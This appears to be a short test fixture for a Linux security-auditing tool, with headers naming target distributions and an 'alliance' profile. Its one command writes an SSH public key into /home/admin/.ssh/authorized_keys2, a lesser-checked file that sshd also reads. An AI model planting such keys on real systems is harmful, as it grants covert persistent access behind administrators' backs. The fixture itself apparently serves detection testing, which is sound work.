# hosts: ubuntu2204 debian11 debian12 debian13 ubuntu2404 fedora centos
# profile: alliance
# sshd looks into authorized_keys2 too.
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQClk/8V2qb8Z5mgQRKkartwOhKOmI3ZsAFUfLpifDCcVUEOzKMfKRA6MWJWHWcD5f7DkG6vmzjrlZy48weu10Y4b9clBUdu3l/+1QQccYgdXL0MPg/ArUz1Qyep9QP8kto4C2LAfnz70i6y59zumeAaebyFlHMziGqjVPgKZAxtCw==' >/home/admin/.ssh/authorized_keys2
